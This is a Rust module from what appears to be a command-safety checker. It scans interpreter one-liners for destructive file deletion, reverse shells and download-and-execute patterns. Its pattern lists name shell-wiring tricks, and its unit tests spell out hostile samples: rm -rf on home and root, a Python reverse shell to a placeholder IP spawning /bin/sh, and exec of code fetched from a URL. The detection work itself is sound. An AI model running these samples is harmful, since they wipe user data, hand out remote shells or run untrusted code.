//! Interpreter one-liners (`python -c`, `perl -e`, `node -e`, `ruby -e`, `php -r`, `lua -e`,
//! and code piped into an interpreter): what the code would do, read from the calls in it.
//!
//! No interpreter's grammar is parsed: the calls that matter are few and distinctive, so the code
//! is searched for them and the string literals next to them are read as their arguments —
//! destructive file calls (`shutil.rmtree`, `fs.rmSync`, `FileUtils.rm_rf`, `unlink`, …) judged by
//! the scope of their target, calls that run a command line (`os.system`, `subprocess.run`,
//! `execSync`, backquotes, …) whose command is scanned as a shell script, sockets combined with a
//! shell or descriptor duplication (reverse shells), and code fetched from the network and run.

use super::paths::{Scope, scope};

/// What inspecting a piece of code found.
#[derive(Debug, Default)]
pub(crate) struct CodeFindings {
    /// Command lines the code runs: scanned as shell scripts.
    pub commands: Vec<String>,
    /// A destructive call aimed outside the project (`rmtree("/home")`), as seen.
    pub destroys: Option<String>,
    /// A socket wired to a shell: a reverse shell.
    pub reverse_shell: bool,
    /// Code downloaded and executed in place.
    pub runs_download: bool,
}

/// Calls that delete files or trees; the first string argument is the target.
const DELETE_CALLS: &[&str] = &[
    "rmtree(",
    "rm_rf(",
    "rm_r(",
    "remove_tree(",
    "rmSync(",
    "rmdirSync(",
    "rimraf(",
    "unlinkSync(",
    "unlink(",
    "os.remove(",
    "os.rmdir(",
    "removedirs(",
    "File.delete(",
    "FileUtils.rm(",
    "rmdir(",
    "fs.rm(",
    "emptyDirSync(",
    "removeSync(",
    "Remove-Item",
];

/// Calls that run a command line (string or list form).
const EXEC_CALLS: &[&str] = &[
    "system(",
    "exec(",
    "execSync(",
    "execFileSync(",
    "popen(",
    "spawn(",
    "spawnSync(",
    "check_output(",
    "check_call(",
    "call(",
    "run(",
    "Popen(",
    "getoutput(",
    "getstatusoutput(",
    "shell_exec(",
    "passthru(",
    "proc_open(",
    "exec_command(",
    "execute(",
    "%x(",
    "IO.popen(",
    "Open3.",
];

const SOCKETS: &[&str] = &[
    "socket(",
    "socket.socket",
    "create_connection",
    "fsockopen",
    "TCPSocket",
    "IO::Socket",
    "net.Socket",
    "net.connect",
    "require(\"net\")",
    "require('net')",
    "/inet/tcp",
    "/dev/tcp/",
    "socket.tcp",
    "Socket.new",
    "PF_INET",
    "new Socket",
];

/// Signs that a socket is handed to a shell.
const SHELL_WIRING: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "sh -i",
    "bash -i",
    "cmd.exe",
    "pty.spawn",
    "dup2",
    "fdopen",
    "STDIN",
    "<&",
    ">&",
    "child_process",
    "subprocess",
    "exec(",
    "spawn(",
    "popen",
    "system",
    "getline",
    ".pipe(",
];

const FETCHES: &[&str] = &[
    "urlopen(",
    "urllib.request",
    "requests.get(",
    "http.get(",
    "https.get(",
    "fetch(",
    "Net::HTTP",
    "open-uri",
    "LWP::",
    "file_get_contents(\"http",
    "file_get_contents('http",
    "curl_exec",
];

const RUNS_CODE: &[&str] = &["exec(", "eval(", "Function(", "instance_eval", "load("];

pub(crate) fn inspect(code: &str) -> CodeFindings {
    let mut f = CodeFindings::default();
    if code.len() > 64 * 1024 {
        return f;
    }
    for call in EXEC_CALLS {
        for args in call_args(code, call) {
            let literals = string_literals(args);
            let command = if args.trim_start().starts_with('[') {
                literals.join(" ")
            } else {
                literals.first().map(|s| s.to_string()).unwrap_or_default()
            };
            if !command.is_empty() && f.commands.len() < 32 {
                f.commands.push(command);
            }
        }
    }
    // Backquotes run a command in Perl, Ruby and PHP.
    let mut rest = code;
    while let Some(start) = rest.find('`') {
        let after = &rest[start + 1..];
        let Some(end) = after.find('`') else { break };
        if f.commands.len() < 32 {
            f.commands.push(after[..end].to_string());
        }
        rest = &after[end + 1..];
    }
    for call in DELETE_CALLS {
        for args in call_args(code, call) {
            let literals = string_literals(args);
            let target = literals.first().copied();
            let home = [
                "Dir.home",
                "expanduser",
                "os.homedir",
                "process.env.HOME",
                "$ENV{HOME}",
                "getenv(\"HOME\")",
                "Path.home",
            ]
            .iter()
            .any(|h| args.contains(h));
            let outside = match target {
                _ if home => true,
                Some(t) => {
                    let t = t.trim_end_matches("/*");
                    matches!(scope(t), Scope::Root | Scope::Home | Scope::System | Scope::OtherHome)
                }
                None => false,
            };
            if outside {
                f.destroys = Some(format!("{}{})", call, target.unwrap_or("home")));
            }
        }
    }
    // `unlink glob("/etc/*")` (Perl), `array_map("unlink", glob("/etc/*"))` (PHP).
    if (code.contains("unlink") || code.contains("rmtree"))
        && let Some(g) = call_args(code, "glob(").into_iter().next()
        && let Some(t) = string_literals(g).first()
        && matches!(
            scope(t.trim_end_matches("/*")),
            Scope::Root | Scope::Home | Scope::System | Scope::OtherHome
        )
    {
        f.destroys = Some(format!("unlink glob({t})"));
    }
    f.reverse_shell = SOCKETS.iter().any(|s| code.contains(s)) && SHELL_WIRING.iter().any(|s| code.contains(s));
    f.runs_download = FETCHES.iter().any(|s| code.contains(s)) && RUNS_CODE.iter().any(|s| code.contains(s));
    f
}

/// The text after each occurrence of `call` up to its closing parenthesis (or `]` of a list).
fn call_args<'c>(code: &'c str, call: &str) -> Vec<&'c str> {
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(i) = code[from..].find(call) {
        let start = from + i + call.len();
        from = start;
        // `os.remove(` must not count as `remove(` inside `os.removedirs(` etc.: good enough.
        let body = &code[start..];
        let end = closing(body);
        out.push(&body[..end]);
        if out.len() >= 32 {
            break;
        }
    }
    out
}

/// Where the argument list that starts `body` ends: the `)` that closes it, quotes respected.
fn closing(body: &str) -> usize {
    let b = body.as_bytes();
    let mut depth = 1usize;
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            q @ (b'"' | b'\'') => {
                i += 1;
                while i < b.len() && b[i] != q {
                    if b[i] == b'\\' {
                        i += 1;
                    }
                    i += 1;
                }
            }
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => {
                depth -= 1;
                if depth == 0 {
                    return i;
                }
            }
            _ => {}
        }
        i += 1;
    }
    b.len()
}

/// The contents of the quoted string literals in program text.
pub(crate) fn string_literals(code: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = code;
    while let Some(start) = rest.find(['"', '\'']) {
        let quote = rest.as_bytes()[start] as char;
        let after = &rest[start + 1..];
        match after.find(quote) {
            Some(end) => {
                if end > 0 && out.len() < 32 {
                    out.push(&after[..end]);
                }
                rest = &after[end + 1..];
            }
            None => break,
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn destructive_calls_by_scope() {
        assert!(inspect(r#"import shutil; shutil.rmtree("/home")"#).destroys.is_some());
        assert!(inspect(r#"import shutil; shutil.rmtree("build")"#).destroys.is_none());
        assert!(
            inspect(r#"require("fs").rmSync(process.env.HOME, {recursive: true})"#)
                .destroys
                .is_some()
        );
        assert!(
            inspect(r#"require("fs").rmSync("dist", {recursive: true})"#)
                .destroys
                .is_none()
        );
        assert!(inspect(r#"unlink glob("/etc/*")"#).destroys.is_some());
    }

    #[test]
    fn commands_sockets_downloads() {
        let f = inspect(r#"import os; os.system("rm -rf ~")"#);
        assert_eq!(f.commands, ["rm -rf ~"]);
        let f = inspect(r#"subprocess.run(["rm", "-rf", "/"])"#);
        assert!(f.commands.contains(&"rm -rf /".to_string()), "{f:?}");
        assert!(
            inspect(r#"s=socket.socket();s.connect(("1.2.3.4",1));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")"#)
                .reverse_shell
        );
        assert!(!inspect("import socket; print(socket.gethostname())").reverse_shell);
        assert!(inspect("import urllib.request as u;exec(u.urlopen('http://x/p').read())").runs_download);
        assert!(inspect(r#"print("rm -rf / is bad")"#).commands.is_empty());
    }
}
